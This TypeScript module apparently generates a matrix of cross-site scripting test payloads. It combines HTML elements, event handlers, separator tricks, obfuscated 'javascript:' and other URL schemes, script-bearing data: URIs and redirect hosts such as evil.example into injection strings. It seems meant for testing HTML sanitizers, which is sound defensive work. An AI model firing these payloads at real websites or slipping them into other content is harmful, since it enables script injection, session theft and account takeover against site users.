/** Elements × handlers, separators × elements, and schemes × attributes that hold an address. */
import { RUN } from './payload.ts';

const ELEMENTS = `
a abbr animate article audio b base blockquote body br button canvas code custom-x del details dialog div dl embed em
fieldset figcaption figure font form frameset h1 hr html i iframe image img input ins isindex keygen label li link listing
main map mark marquee math menu meta meter nav object ol option output p plaintext pre progress q s script search section
select set slot small source span strong style sub sup svg table td template textarea th time title track u ul var video
wbr xmp xss`
  .trim()
  .split(/\s+/);

const HANDLERS = `
onload onerror onfocus onfocusin onblur onclick ontoggle onbeforetoggle onanimationstart onanimationend ontransitionend
ontransitionrun onscroll onscrollend onwheel onpointerrawupdate onpointerover onmouseover onbegin onend onrepeat onstart
onfinish onplay oncanplay onloadeddata onloadstart onseeked onhashchange onpageshow onpopstate onmessage onresize
oncontentvisibilityautostatechange onsearch oninput oncut oncopy onpaste onbeforeinput onauxclick oncontextmenu onformdata
onsecuritypolicyviolation onslotchange onunhandledrejection onwebkitanimationstart oncommand oninterest onscrollsnapchange
onbeforematch onbeforexrselect`
  .trim()
  .split(/\s+/);
const ON_FEW = ['img', 'svg', 'details', 'xss', 'p', 'a', 'td'];

const SEPARATORS = ['/', '\t', '\n', '\f', '\r', '/\u00a0/', '//', '/x/', '""', "''", '/=/', '\u0000', '\u000b', '`', '/\u2028/', '\u3000'];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  'java\r\nscript:',
  ' javascript:',
  '\u0001javascript:',
  '\u00a0javascript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  'javascript&#58;',
  'javascript&#0000058',
  'jav&Tab;ascript:',
  'javascript&NewLine;:',
  'javascript://x%0a',
  'javascript:/*--></title>*/',
  'vbscript:',
  'livescript:',
  'mocha:',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:http://x!/',
  'ｊavascript:',
  'java\u00adscript:',
  'java\u200bscript:',
  'blob:',
  'filesystem:',
  'about:',
  'file:///etc/passwd#',
  'ftp://x.example/',
  'tel:',
  'sms:',
  'intent:#Intent;end',
  'ms-msdt:/id',
  'steam://run/',
  'chrome://settings/#',
  'moz-extension://x/',
  'chrome-extension://x/',
  '//evil.example/',
  '\\\\evil.example\\',
  '/\\evil.example/',
  'http://evil.example\\@good.example/',
  'http:evil.example/',
  'https:javascript//',
  'https://user:word@x.example/',
];
const DATA = [
  'data:text/html,<script>HIT(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5ISVQoMSk8L3NjcmlwdD4=',
  'data:text/javascript,HIT(1)',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="HIT(1)"/>',
  'DATA:text/html,<img src=x onerror=HIT(1)>',
  'data:,x',
  'data:image/png;base64,AA==',
];

/** Every attribute that a browser takes for an address. `$` is the address. */
const HOLDERS = [
  '<a href="$">x</a>',
  '<img src="$">',
  '<iframe src="$"></iframe>',
  '<form action="$"><button formaction="$">x</button></form>',
  '<svg><a xlink:href="$"><text>x</text></a><use href="$"/><animate attributeName=href values="$"/></svg>',
  '<object data="$"></object><embed src="$">',
  '<math href="$"><mtext>x</mtext></math>',
  '<meta http-equiv=refresh content="0;url=$"><base href="$">',
  '<q cite="$">x</q><blockquote cite="$">x</blockquote><del cite="$">x</del><a ping="$" href="/">x</a>',
  '<picture><source srcset="$" src="$"><img srcset="$ 2x" src="$" lowsrc="$" dynsrc="$" data-src="$"></picture>',
  '<video poster="$" src="$"><source src="$"><track src="$"></video>',
  '<table background="$"><td background="$" nowrap>x</td></table>',
  '<link rel=stylesheet href="$"><script src="$"></script>',
];

export function matrix(): string[] {
  const fired = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin', 'onstart']
    .map((handler) => `${handler}=${RUN}`)
    .join(' ');
  return [
    ...ELEMENTS.map((tag) => `<${tag} src=x href=x data=x autofocus tabindex=1 open controls style="animation:x 1s" ${fired}>x</${tag}>`),
    ...HANDLERS.flatMap((handler) => ON_FEW.map((tag) => `<${tag} src=x id=x tabindex=1 ${handler}="${RUN}">x</${tag}>`)),
    ...SEPARATORS.flatMap((sign) => ['img', 'svg', 'p'].map((tag) => `<${tag}${sign}src=x${sign}onerror=${RUN}${sign}onload=${RUN}>x`)),
    ...[...SCHEMES.map((scheme) => scheme + RUN), ...DATA].flatMap((address) =>
      HOLDERS.map((holder) => holder.replaceAll('$', () => address.replaceAll('"', '&quot;'))),
    ),
  ];
}
